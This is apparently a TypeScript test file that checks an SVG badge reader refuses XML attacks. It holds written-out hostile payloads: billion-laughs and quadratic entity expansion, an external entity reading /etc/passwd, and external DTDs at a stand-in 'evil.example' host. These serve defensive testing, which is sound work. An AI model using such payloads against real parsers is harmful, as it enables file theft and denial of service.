import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from 'vitest';
import { readText } from '../../main/intake/read-bytes';
import { badge } from '../main/intake/badges';

const ns = 'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"';
const svg = (doctype: string, body: string) =>
  `<?xml version="1.0"?>\n${doctype}\n<svg xmlns="http://www.w3.org/2000/svg"><openbadges:credential ${ns}>${body}</openbadges:credential></svg>`;

const laughs = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

test.each([
  ['billion laughs', `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>`, '&l10;'],
  ['quadratic blow-up', `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(100_000)}">]>`, '&a;'.repeat(10_000)],
  ['a local file', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;'],
  ['a parameter entity', '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>', 'x'],
  ['a document type elsewhere', '<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">', 'x'],
  [
    'a document type elsewhere, dressed up',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/x.dtd">',
    'x',
  ],
  [
    'the usual document type with entities in it',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY x "y">]>',
    '&x;',
  ],
  ['an empty one', '<!DOCTYPE svg>', JSON.stringify(badge)],
])('%s is refused', (_name, doctype, body) => {
  const started = performance.now();
  expect(readText(svg(doctype, body))).toEqual({ ok: false, error: { kind: 'svg-entities' } });
  expect(performance.now() - started).toBeLessThan(2000);
});

test('an entity that nobody defined is damage, not text', () => {
  expect(readText(svg('', '&undefined;'))).toMatchObject({ ok: false, error: { kind: 'svg-damaged' } });
});

test('nothing an SVG names is fetched', async () => {
  let asked = 0;
  const server = createServer((_request, response) => {
    asked += 1;
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const at = `http://127.0.0.1:${port}`;
  readText(svg(`<!DOCTYPE svg [<!ENTITY x SYSTEM "${at}/x">]>`, '&x;'));
  readText(
    `<?xml-stylesheet href="${at}/a.css"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${at}/i.png"/><script href="${at}/s.js"/></svg>`,
  );
  await new Promise((resolve) => setTimeout(resolve, 50));
  server.close();
  expect(asked).toBe(0);
});

test.each([
  ['deep', '<g>'.repeat(500_000)],
  ['wide', '<g/>'.repeat(200_000)],
  ['attributes', `<g ${Array.from({ length: 50_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`],
  ['one long text', 'x'.repeat(5_000_000)],
  ['an open comment', `<!--${'-'.repeat(1_000_000)}`],
])('%s XML ends soon', (_name, inner) => {
  const started = performance.now();
  expect(readText(`<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`).ok).toBe(false);
  expect(performance.now() - started).toBeLessThan(2000);
});
